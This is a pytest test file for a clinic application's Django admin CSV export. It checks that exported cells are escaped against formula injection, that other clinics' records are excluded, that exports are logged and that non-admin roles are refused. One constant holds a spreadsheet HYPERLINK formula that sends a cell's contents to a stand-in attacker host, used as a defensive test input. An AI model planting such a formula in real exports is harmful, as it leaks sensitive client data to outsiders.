"""A list sent as a sheet: its rows, and never a formula."""

import csv
from io import StringIO

import pytest
from django.contrib import admin

from clinic.models import Access, Client
from sessions.models import Session
from tests.conftest import acting
from tests.sessions.admin.page import of_list
from tests.sessions.admin.records import CANARY, FOREIGN, REGISTERED

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


def rows_of(answer) -> list[list[str]]:
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(StringIO(answer.content.decode("utf-8-sig"), newline="")))


def ask(browser, model, *records):
    asked = {"action": "sheet", "_selected_action": [str(one.pk) for one in records]}
    return browser.post(of_list(model), asked)


def test_clients_are_sent_as_a_sheet(clinic_a, browser):
    record = clinic_a.client_record
    with acting(clinic_a.admin):
        record.revise(given_name=FORMULA, family_name="<b>Moor</b>", phone="+1 206 555")

    answer = ask(browser(clinic_a.admin), Client, record)

    head, row = rows_of(answer)
    assert head[:4] == ["Family name", "Given name", "Date of birth", "Phone"]
    assert row[:4] == ["<b>Moor</b>", f"'{FORMULA}", "1970-05-17", "'+1 206 555"]
    assert record.family_name not in answer["Content-Disposition"]


def test_links_and_choices_are_told_in_words(clinic_a, own, browser):
    with acting(clinic_a.admin):
        own[Client].revise(given_name="-1&1", family_name="@SUM(<i>1</i>)")

    head, row = rows_of(ask(browser(clinic_a.admin), Session, own[Session]))

    cells = dict(zip(head, row, strict=True))
    assert cells["Client"] == "'@SUM(<i>1</i>), -1&1"
    assert cells["Status"] == "Planned"


@pytest.mark.slow
def test_every_list_may_be_sent(clinic_a, own, foreign, browser):
    ours = browser(clinic_a.admin)
    shown = ""
    for model in REGISTERED:
        rows = rows_of(ask(ours, model, own[model], foreign[model]))
        assert len(rows) == 2, model
        assert len(rows[0]) == len(
            admin.site.get_model_admin(model).get_list_display(None)
        )
        shown += str(rows)

    assert CANARY in shown
    assert FOREIGN not in shown


def test_the_access_log_hears_who_is_in_it_beyond_the_page(
    clinic_a, browser, monkeypatch
):
    monkeypatch.setattr(admin.site.get_model_admin(Client), "list_per_page", 1)
    both = clinic_a.client_record, clinic_a.other_client
    asked = {"action": "sheet", "_selected_action": str(both[0].pk)}

    answer = browser(clinic_a.admin).post(
        of_list(Client), asked | {"select_across": "1"}
    )

    with acting(clinic_a.admin):
        (kept,) = Access.objects.filter(request=answer["X-Request-ID"])
        assert {one.client_id for one in kept.shown.all()} == {one.pk for one in both}


@pytest.mark.parametrize("role", ["therapist", "desk"])
def test_nobody_else_takes_a_list_along(clinic_a, browser, role):
    answer = ask(browser(getattr(clinic_a, role)), Client, clinic_a.client_record)

    assert answer["Content-Type"].startswith("text/html")
    assert "canary" not in answer.content.decode()
